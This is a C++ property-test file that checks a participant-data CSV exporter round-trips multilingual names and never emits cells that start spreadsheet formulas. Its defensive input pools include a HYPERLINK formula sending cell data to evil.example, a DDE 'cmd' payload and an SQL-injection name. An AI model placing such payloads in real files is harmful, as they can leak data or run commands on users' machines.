// Properties of the CSV files Mitra writes: whatever the text, what is written reads back as it was, and no
// cell starts a spreadsheet formula. Seeded loops, so a failure names the seed and round that make it again.
#include <catch2/catch.hpp>

#include <algorithm>
#include <random>
#include <set>

#include "cells.hpp"
#include "core/validation.hpp"
#include "io/csv.hpp"
#include "io/export.hpp"
#include "io/participant_csv.hpp"

using namespace mitra;
using namespace mitra::io;
using mitra::io::testing::spreadsheet_cells;
using mitra::io::testing::starts_formula;

namespace {

constexpr unsigned kSeed = 20260118;

// Names in every script the programme prints, with the joiners some need and look-alikes of a Latin name.
const std::vector<std::string> kNames = {
    "山田 花子",
    "髙橋 𠮷郎",
    "张伟",
    "陳怡君",
    "김민준",
    "สมชาย ใจดี",
    "प्रिया शर्मा",
    "রবীন্দ্রনাথ ঠাকুর",
    "ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ",
    "கார்த்திக்",
    "\u0DC1\u0DCA\u200D\u0DBB\u0DD2\u0DBA\u0DCF\u0DB1\u0DD2",
    "عائشہ خان",
    "Nguyễn Thị Minh Khai",
    "Sukarno",
    "John Smith",
    "J\u043Ehn Smith" /* Cyrillic о */,
    "Jo\u0301se" /* NFD */,
    "O'Neil",
    "Khan, Aisha",
    "Say \"hi\"",
    "Robert'); DROP TABLE participants;--",
    "Ma",
    "X",
};
// What may come before a name: formula characters, quotes of one's own, both.
const std::vector<std::string> kPrefixes = {"",   "",    "",
                                            "=",  "+",   "-",
                                            "@",  "'",   "''",
                                            "'=", "''+", "'-",
                                            "=-", "@'",  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")&"};
// Pieces of any text: everything a CSV field must survive, spreadsheet formulas first.
const std::vector<std::string> kPieces = {"=",
                                          "+",
                                          "-",
                                          "@",
                                          "\t",
                                          "\r",
                                          "\n",
                                          "\r\n",
                                          "'",
                                          "''",
                                          "\"",
                                          "\"\"",
                                          ",",
                                          ";",
                                          " ",
                                          "  ",
                                          "a",
                                          "Z",
                                          "0",
                                          "-12",
                                          "3.5",
                                          "=SUM(A1:A9)",
                                          "+cmd|' /C calc'!A0",
                                          "山田",
                                          "김",
                                          "ใจ",
                                          "श्",
                                          "\u0DC1\u0DCA\u200D\u0DBB",
                                          "عائشہ",
                                          "ễ",
                                          "𠮷",
                                          "\u200B",
                                          "\u043E",
                                          "\u00A0"};

template <typename T>
const T& pick(std::mt19937& random, const std::vector<T>& from) {
    return from[std::uniform_int_distribution<std::size_t>(0, from.size() - 1)(random)];
}

int between(std::mt19937& random, int low, int high) { return std::uniform_int_distribution<int>(low, high)(random); }

std::string any_text(std::mt19937& random) {
    std::string out;
    for (int i = between(random, 0, 6); i > 0; --i) out += pick(random, kPieces);
    return out;
}

Participant any_person(std::mt19937& random, int index) {
    Participant p;
    p.ref = "P-" + std::to_string(index);
    p.full_name = pick(random, kPrefixes) + pick(random, kNames);
    if (between(random, 0, 2) == 0) p.full_name += " " + pick(random, kNames);
    if (between(random, 0, 1) == 0) p.latin_name = pick(random, kPrefixes) + pick(random, kNames);
    p.country = pick(random, std::vector<std::string>{"NP", "JP", "LK", "PK", "VN"});
    p.language = pick(random, std::vector<std::string>{"ne", "ja", "si", "ur", "vi", "zh-Hant"});
    if (between(random, 0, 2) == 0)
        p.email = pick(random, kPrefixes).substr(0, 1) + "x" + std::to_string(index) + "@example.org";
    if (between(random, 0, 2) == 0)
        p.phone = pick(random, std::vector<std::string>{"+977 1 555 0100", "-5 55", "(01) 555"});
    if (between(random, 0, 3) == 0) p.consent_date = Date{2026, between(random, 1, 12), between(random, 1, 28)};
    return p;
}

}  // namespace

TEST_CASE("any fields written as a CSV line read back exactly, and none starts a formula",
          "[io][csv][formula][property]") {
    std::mt19937 random(kSeed);
    for (int round = 0; round < 300; ++round) {
        INFO("seed " << kSeed << ", round " << round);
        const int width = between(random, 1, 8);
        std::vector<CsvCell> kinds;
        std::vector<std::string> header;
        for (int c = 0; c < width; ++c) {
            kinds.push_back(between(random, 0, 3) == 0 ? CsvCell::number : CsvCell::text);
            header.push_back("c" + std::to_string(c));
        }
        std::vector<std::vector<std::string>> rows;
        std::string csv = csv_line(header);
        for (int r = between(random, 1, 6); r > 0; --r) {
            std::vector<std::string> row;
            for (int c = 0; c < width; ++c) {
                const bool number = kinds[static_cast<std::size_t>(c)] == CsvCell::number && between(random, 0, 1);
                row.push_back(number ? std::to_string(between(random, -1500, 1500)) : any_text(random));
            }
            row[0] += "#";  // never a blank row, which a reader skips
            csv += csv_line(row, kinds);
            rows.push_back(std::move(row));
        }
        const auto read = read_csv(csv, "any.csv");
        REQUIRE(read.ok());
        REQUIRE(read.value.rows.size() == rows.size());
        for (std::size_t r = 0; r < rows.size(); ++r) {
            std::vector<std::string> got;
            for (const auto& f : read.value.rows[r].fields) got.push_back(f.text);
            CHECK(got == rows[r]);
        }
        const auto cells = spreadsheet_cells(csv);
        REQUIRE(cells.size() == (rows.size() + 1) * static_cast<std::size_t>(width) + 1);  // and "" after the last line
        for (std::size_t i = 0; i < cells.size(); ++i) {
            // Only a number column's plain number (-12, -3.5) may start with '-': it is a number, not a formula.
            const auto& cell = cells[i];
            const bool number_column = kinds[i % static_cast<std::size_t>(width)] == CsvCell::number;
            const bool plain_number = cell.size() > 1 && cell.front() == '-' &&
                                      cell.find_first_not_of("0123456789.", 1) == std::string::npos &&
                                      std::count(cell.begin(), cell.end(), '.') <= 1 && cell.back() != '.' &&
                                      cell[1] != '.';
            INFO("cell: [" << cell << "]");
            if (!(number_column && plain_number)) CHECK_FALSE(starts_formula(cell));
        }
    }
}

TEST_CASE("any set of people exported and imported back is the same people, and exported again the same file",
          "[io][export][formula][property]") {
    std::mt19937 random(kSeed);
    std::size_t kept_in_all = 0, formulas = 0;
    for (int round = 0; round < 200; ++round) {
        INFO("seed " << kSeed << ", round " << round);
        std::vector<Participant> people;
        for (int i = between(random, 1, 12); i > 0; --i) {
            Participant p = any_person(random, static_cast<int>(people.size()) + 1);
            normalize(p);  // as a person is kept (the store takes nothing else)
            if (validate(p).empty()) people.push_back(std::move(p));
        }
        kept_in_all += people.size();
        const std::string csv = participants_csv(people);
        for (const auto& cell : spreadsheet_cells(csv)) CHECK_FALSE(starts_formula(cell));
        const auto read = read_participant_csv(csv, "people.csv");
        INFO((read.problems.empty() ? "" : to_string(read.problems.front())));
        REQUIRE(read.ok());
        REQUIRE(read.value.size() == people.size());
        std::vector<Participant> back;
        for (std::size_t i = 0; i < people.size(); ++i) {
            const Participant& a = people[i];
            const Participant& b = read.value[i].participant;
            INFO("name: [" << a.full_name << "]");
            formulas += starts_formula(a.full_name) || a.full_name.starts_with('\'');
            CHECK(b.ref == a.ref);
            CHECK(b.full_name == a.full_name);
            CHECK(b.latin_name == a.latin_name);
            CHECK(b.country == a.country);
            CHECK(b.language == a.language);
            CHECK(b.email == a.email);
            CHECK(b.phone == a.phone);
            CHECK(b.consent_date == a.consent_date);
            back.push_back(b);
        }
        CHECK(participants_csv(back) == csv);
    }
    // The generator is not idle: most people pass the checks, and many begin like a formula or with a quote.
    CHECK(kept_in_all > 800);
    CHECK(formulas > 300);
}
